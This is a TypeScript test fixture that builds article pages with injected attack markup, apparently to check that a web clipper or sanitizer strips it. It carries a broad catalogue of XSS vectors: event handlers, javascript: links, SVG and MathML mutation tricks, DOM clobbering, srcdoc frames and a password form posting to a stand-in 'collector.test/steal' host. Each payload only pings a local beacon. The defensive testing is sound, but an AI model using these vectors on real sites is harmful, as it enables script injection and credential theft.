/**
 * Articles with an attack in the middle of the text. Whatever runs asks the server for `/ran?NAME`, so a test
 * sees it in the server's log, from whichever frame or window it ran. Nothing here may run because of us.
 */

/** The request that a payload makes when it runs. */
const ran = (name: string): string => `new Image().src='/ran?${name}'`;

/** Markup that is put between two paragraphs of an honest article. */
const ATTACKS: Record<string, (run: string) => string> = {
  script: (run) =>
    `<script>${run}</script><script src="data:text/javascript,${encodeURIComponent(run)}"></script>` +
    `<noscript><img src=x onerror="${run}"></noscript><xmp><script>${run}</script></xmp>`,
  handlers: (run) =>
    `<p onclick="${run}" onmouseover="${run}">A paragraph with handlers of its own, which ought to arrive as plain words.</p>` +
    `<img src="missing.png" onerror="${run}" width="300" height="200" alt="broken">` +
    `<details ontoggle="${run}" open><summary>More</summary>Folded text</details>` +
    `<video onerror="${run}" autoplay><source src="missing.mp4" onerror="${run}"></video>` +
    `<style>@keyframes k{from{opacity:.5}}</style><b style="animation:k 1s" onanimationstart="${run}">bold</b>` +
    `<input onfocus="${run}" onchange="${run}">`,
  'javascript-links': (run) =>
    `<p>Links that are traps: <a href="javascript:${run}">plain</a>, <a href="  java&#9;script:${run}">with a tab</a>, ` +
    `<a href="&#1;JaVaScRiPt:${run}">in capitals</a>, <a href="vbscript:msgbox(1)">basic</a>, ` +
    `<a href="data:text/html,<script>alert(1)</script>">data</a>, <a href="blob:null/1">blob</a>, ` +
    `<a href="/fine" target="javascript:${run}" ping="/ran?ping">fine</a>.</p>` +
    `<map name="m"><area href="javascript:${run}" shape="default" alt="area"></map>`,
  svg: (run) =>
    `<svg width="300" height="200" onload="${run}"><script>${run}</script><rect width="300" height="200" fill="teal"/>` +
    `<a xlink:href="javascript:${run}" href="javascript:${run}"><text x="10" y="40">press</text>` +
    `<animate attributeName="href" values="javascript:${run}"/><set attributeName="onmouseover" to="${run}"/></a>` +
    `<foreignObject width="100" height="100"><iframe srcdoc="<script>${run}</script>"></iframe><img src="x" onerror="${run}"></foreignObject>` +
    `<use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${encodeURIComponent(run)}'/></svg>#x"/></svg>` +
    `<img alt="svg picture" width="300" height="200" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${encodeURIComponent(run)}</script></svg>">`,
  mathml: (run) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=&quot;${run}&quot;&gt;"></style></mglyph></table></mtext></math>` +
    `<math href="javascript:${run}"><mi xlink:href="javascript:${run}">x</mi><annotation-xml encoding="text/html"><img src="x" onerror="${run}"></annotation-xml></math>` +
    `<math><maction actiontype="statusline#javascript:${run}"><mi>y</mi></maction></math>` +
    `<svg></p><style><g title="</style><img src=x onerror="${run}">">`,
  style: (run) =>
    `<style>div, iframe, dialog, :popover-open { display: none !important; opacity: 0 !important; scale: 0 !important } :host, main { color: red }</style>` +
    `<link rel="stylesheet" href="data:text/css,body{background:url(/ran?link)}">` +
    `<p style="position:fixed;inset:0;background:url(javascript:${run});z-index:2147483647;font-size:90px">A paragraph that would like to cover everything, written long enough to count as text.</p>`,
  form: (run) =>
    `<form action="https://collector.test/steal" onsubmit="${run}"><label>Your password <input type="password" name="password" value=""></label>` +
    `<select name="s"><option>one</option></select><textarea name="t"></textarea>` +
    `<button formaction="javascript:${run}">Continue</button><input type="image" src="x" onerror="${run}"></form>`,
  clobbering: () =>
    `<form id="content" name="body"><input name="attributes"><input name="nodeName"><input name="parentNode"><input name="childNodes"><input name="tagName"></form>` +
    `<img name="createElement" src="x" alt=""><img name="querySelector" src="x" alt=""><img name="getElementById" alt="">` +
    `<a id="documentElement" name="documentElement" href="/a"></a><a id="defaultView"></a><a id="defaultView" name="top"></a>` +
    `<form name="documentElement"></form><form name="implementation"></form><form name="styleSheets"></form>`,
  srcdoc: (run) =>
    `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe><iframe src="javascript:${run}"></iframe>` +
    `<object data="data:text/html,&lt;script&gt;${run}&lt;/script&gt;"></object><embed src="javascript:${run}">` +
    `<portal src="javascript:${run}"></portal>`,
  refresh: (run) =>
    `<meta http-equiv="refresh" content="3600;url=javascript:${run}"><meta http-equiv="content-security-policy" content="img-src *">` +
    `<p>The tag above asks the browser to leave for somewhere else, an hour from now, which a clip has no use for.</p>`,
  shadow: (run) =>
    `<div><template shadowrootmode="open"><img src="missing.png" onerror="${run}"><p>Words in a shadow root, visible on the page and long enough to be read as text.</p></template></div>` +
    `<script>window.made=0;customElements.define('x-trap',class extends HTMLElement{constructor(){super();window.made++;${run}}connectedCallback(){${run}}})</script>` +
    `<x-trap>Text of a custom element that counts how often it was made.</x-trap>`,
  'lazy-sources': (run) =>
    `<img data-src="javascript:${run}" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="300" height="200" alt="lazy">` +
    `<img data-src='x" onerror="${run}' data-srcset="javascript:${run} 2x" width="300" height="200" alt='"><img src=x onerror=${run}>'>` +
    `<picture><source srcset="javascript:${run}"><img src="missing.png" width="300" height="200" alt="picture"></picture>`,
  text: (run) =>
    `<p>Words that look like markup: &lt;img src=x onerror="${run}"&gt; and &lt;script&gt;${run}&lt;/script&gt; and [click](javascript:alert(1)) and &lt;/textarea&gt;.</p>`,
};

/** Attacks that belong into the head: a base element that sends every link elsewhere, titles that look like markup. */
const HEADS: Record<string, (run: string) => string> = {
  base: () => '<base href="https://elsewhere.test/deep/" target="_top">',
  metadata: (run) =>
    `<meta name="author" content='"><img src=x onerror="${run}">'><meta property="og:site_name" content="<script>${run}</script>">` +
    `<meta property="og:image" content="javascript:${run}"><link rel="canonical" href="javascript:${run}">` +
    `<script type="application/ld+json">{"@type":"Article","headline":"<img src=x onerror=\\"${run}\\">","author":{"name":"</script><script>${run}</script>`,
};

export const ATTACK_NAMES = [...Object.keys(ATTACKS), ...Object.keys(HEADS)];

/** The first and the last sentence of the honest text: both must be in the clip. */
export const HONEST_START = 'The clockmaker of Vell closes his shop at noon';
export const HONEST_END = 'nobody in Vell has been late on purpose since';

function attackPage(name: string): string {
  const run = ran(name);
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>The clockmaker of Vell - Attack ${name}</title>
${HEADS[name]?.(run) ?? ''}
<style>body{margin:0;font:17px/1.6 serif}nav{background:#333;padding:10px}nav a{color:#fff;margin-right:12px}main{width:680px;margin:auto}</style></head><body>
<nav><a href="/1">Towns</a><a href="/2">Trades</a><a href="/3">Tales</a></nav><main><h1>The clockmaker of Vell</h1>
<p>${HONEST_START}, when the sun stands exactly above the weathercock and every clock in the window strikes twelve, one after the other, because he has set each of them a few seconds later than its neighbour so as to hear them all.</p>
<p>He repairs what the post brings: carriage clocks from the capital, cuckoos from the mountains and, once, a metronome whose owner complained that it had begun to hurry. His tools hang in the order in which his master hung them, and he has never dared to ask why the smallest file comes first.</p>
${ATTACKS[name]?.(run) ?? ''}
<p>On the first Monday of the month he walks to the <a href="tower.html">town hall tower</a> and winds the great clock, ninety turns for the hands and two hundred for the bell. It takes him an hour, and the mayor, who lives opposite, times him with a stopwatch that the clockmaker had mended.</p>
<p>When they asked him to install an electric movement he agreed, went up the stairs and came down again with the old one polished. It has kept good time, and ${HONEST_END}.</p>
</main><footer><p>About, contact and imprint</p></footer></body></html>`;
}

/** Path → page, one for each attack. */
export const securityPages: Record<string, () => string> = Object.fromEntries(
  ATTACK_NAMES.map((name) => [`/security--${name}/`, () => attackPage(name)]),
);
